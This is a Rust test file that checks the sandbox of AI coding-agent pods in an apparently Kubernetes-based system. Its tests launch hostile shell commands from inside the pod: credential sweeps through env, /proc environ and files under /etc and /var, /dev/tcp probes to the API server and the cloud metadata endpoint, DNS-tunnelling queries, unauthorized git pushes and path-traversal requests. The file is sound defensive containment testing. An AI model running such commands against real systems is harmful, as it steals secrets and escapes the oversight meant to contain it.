//! Attempts of a hostile command, or a hostile agent container, to leave its pod. Each is one that design.md's trust
//! boundaries rule out; a test fails when one succeeds.

use codebutler_testbed::models::{ModelScript, ScriptStep};

use crate::support::{Setup, Team, needs_process_kubelet};

/// A thread whose coder sleeps in its pod, with a toolbox to misuse.
async fn coder_pod() -> (Team, String, String) {
    let script = ModelScript::of("pm", vec![ScriptStep::say("@codebutler.coder have a look")])
        .and("coder", vec![ScriptStep::say("Looked.")]);
    let team = Setup::new(script).start().await;
    let root = team.says("ana", None, "please look");
    team.message(&root, "Looked.").await;
    let pod = team.pod(&root, "coder").await;
    (team, root, pod)
}

/// Runs a shell line as one of a container's own commands: (exit code, output).
async fn sh(team: &Team, pod: &str, container: &str, line: &str) -> (i32, String) {
    let argv = ["bash", "-c", line];
    let output = team.kubelet().exec(&team.stack.place.team, pod, container, &argv).await.unwrap();
    let text = [output.stdout, output.stderr].concat();
    (output.status.code().unwrap_or(-1), String::from_utf8_lossy(&text).into_owned())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_finds_no_credential_and_no_way_out() {
    if needs_process_kubelet("it looks into containers") {
        return;
    }
    let (team, _root, pod) = coder_pod().await;
    let (_, seen) = sh(
        &team,
        &pod,
        "toolbox",
        "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; \
         find / -xdev -type f \\( -path '/var/*' -o -path '/run/*' -o -path '/work/*' \
         -o -path '/tmp/*' -o -path '/etc/*' -o -path '/root/*' -o -path '/home/*' \\) \
         -size -200k -exec cat {} + 2>/dev/null",
    )
    .await;
    let slack = [team.stack.slack.bot_token(), team.stack.slack.app_token()];
    let others = [team.stack.github.token().to_owned(), team.stack.models.api_key().to_owned()];
    for secret in slack.iter().chain(&others) {
        assert!(!seen.contains(secret.as_str()), "a credential is visible in the toolbox");
    }
    assert!(!seen.contains("eyJ"), "a token is visible in the toolbox");

    let (code, out) = sh(&team, &pod, "toolbox", "ls /var/lib/codebutler /var/run/secrets").await;
    assert_ne!(code, 0, "the toolbox sees the agent's files: {out}");

    // Neither the API server, nor any other server of the testbed, nor the gateway's other port.
    let api = team.stack.cluster.url();
    for url in [
        api,
        &team.stack.slack.api_url(),
        &team.stack.models.url(),
        &team.stack.github.url(),
        &format!("http://{}", team.stack.metrics.gateway),
        "http://169.254.169.254/",
    ] {
        let address = url.split("://").nth(1).unwrap().split('/').next().unwrap();
        let (host, port) = address.split_once(':').unwrap_or((address, "80"));
        let line = format!("timeout 3 bash -c 'exec 3<>/dev/tcp/{host}/{port}'");
        let (code, _) = sh(&team, &pod, "toolbox", &line).await;
        assert_ne!(code, 0, "{url} can be reached from a pod");
    }
    team.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_agent_container_never_sees_the_worktree_and_holds_only_its_own_token() {
    if needs_process_kubelet("it looks into containers") {
        return;
    }
    let (team, _root, pod) = coder_pod().await;
    let (_, mounts) = sh(&team, &pod, "agent", "cat /proc/self/mounts; ls /work 2>&1").await;
    assert!(!mounts.contains(" /work "), "{mounts}");
    let (_, seen) = sh(
        &team,
        &pod,
        "agent",
        "env; find /var /run /etc -xdev -type f -size -200k -exec cat {} + 2>/dev/null",
    )
    .await;
    let stack = &team.stack;
    for secret in [
        &stack.slack.bot_token(),
        &stack.slack.app_token(),
        stack.github.token(),
        stack.models.api_key(),
    ] {
        assert!(!seen.contains(secret), "a credential is visible in the agent container");
    }
    team.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_finds_no_process_or_socket_but_its_own() {
    if needs_process_kubelet("it looks into containers") {
        return;
    }
    let (team, _root, pod) = coder_pod().await;
    let list = "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done";
    let (_, processes) = sh(&team, &pod, "toolbox", list).await;
    assert!(processes.contains("toolbox"), "{processes}");
    for other in ["codebutler-operator", "gateway", "controller", "demo"] {
        let found = processes.lines().any(|line| line.contains(other) && !line.contains("toolbox"));
        assert!(!found, "{other} is visible from the toolbox: {processes}");
    }
    // Sockets: those of this pod's loopback, and the gateway's port.
    let listening = "cat /proc/net/tcp /proc/net/tcp6 | awk '$4 == \"0A\" {print $2}'";
    let (_, listeners) = sh(&team, &pod, "toolbox", listening).await;
    for listener in listeners.lines() {
        let known = listener.starts_with("0100007F:") || listener.ends_with(":20FB");
        assert!(known, "something else listens: {listeners}");
    }
    for pid in ["1", "self"] {
        let (_, out) =
            sh(&team, &pod, "toolbox", &format!("cat /proc/{pid}/root/var/run/secrets/* 2>&1"))
                .await;
        assert!(!out.contains("eyJ"), "{out}");
    }
    team.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_can_not_tunnel_in_dns() {
    if needs_process_kubelet("it looks into containers") {
        return;
    }
    let (team, _root, pod) = coder_pod().await;
    // No resolver is configured that answers, and no other one can be reached.
    let (code, out) =
        sh(&team, &pod, "toolbox", "timeout 20 getent hosts c2VjcmV0.example.com").await;
    assert_ne!(code, 0, "a name was resolved: {out}");
    let mut servers = vec!["8.8.8.8".to_owned(), "1.1.1.1".to_owned(), "10.96.0.10".to_owned()];
    let (_, configured) = sh(&team, &pod, "toolbox", "cat /etc/resolv.conf").await;
    let lines = configured.lines().filter_map(|line| line.strip_prefix("nameserver "));
    servers.extend(lines.map(|server| server.trim().to_owned()));
    // A question for the address of example.com, and whether anything comes back.
    let question =
        r"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01";
    for server in servers {
        let line = format!(
            "exec 3<>/dev/udp/{server}/53 && printf '{question}' >&3 && timeout 2 head -c 12 <&3 2>/dev/null | wc -c"
        );
        let (code, out) = sh(&team, &pod, "toolbox", &line).await;
        assert!(code != 0 || out.lines().next() == Some("0"), "{server} answers: {out}");
    }
    team.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_push_is_refused_before_approval_and_to_any_other_ref() {
    if needs_process_kubelet("it looks into containers") {
        return;
    }
    let (team, root, pod) = coder_pod().await;
    let branch = team.thread(&root).await.status.unwrap().branch.unwrap();
    let commit = "cd /work/tree && git -c safe.directory='*' -c user.name=x -c user.email=x@x \
                  commit --allow-empty -qm hostile && git -c safe.directory='*' ";
    let before = team.stack.remote.branches().await.unwrap();
    for refspec in [
        format!("HEAD:refs/heads/{branch}"),
        "HEAD:refs/heads/main".to_owned(),
        "HEAD:refs/heads/codebutler/other".to_owned(),
        "HEAD:refs/tags/v1".to_owned(),
        "HEAD:refs/codebutler/snap/1".to_owned(),
        format!(":refs/heads/{branch}"),
        "+HEAD:refs/heads/main".to_owned(),
    ] {
        let line = format!("{commit} push http://127.0.0.1:8417/git {refspec}");
        let (code, out) = sh(&team, &pod, "toolbox", &line).await;
        assert_ne!(code, 0, "pushed {refspec}: {out}");
        assert!(out.contains("rejected") || out.contains("403"), "{out}");
    }
    assert_eq!(before, team.stack.remote.branches().await.unwrap(), "the remote has changed");

    // The relay serves Git and nothing else of the gateway.
    for path in ["v1/session", "git/../v1/session", "v1/messages", "git/%2e%2e/session"] {
        let line = format!(
            "exec 3<>/dev/tcp/127.0.0.1/8417; printf 'GET /{path} HTTP/1.1\\r\\nHost: x\\r\\n\
             Connection: close\\r\\n\\r\\n' >&3; head -1 <&3"
        );
        let (_, out) = sh(&team, &pod, "toolbox", &line).await;
        assert!(!out.contains(" 200 "), "{path}: {out}");
    }
    team.stop().await;
}
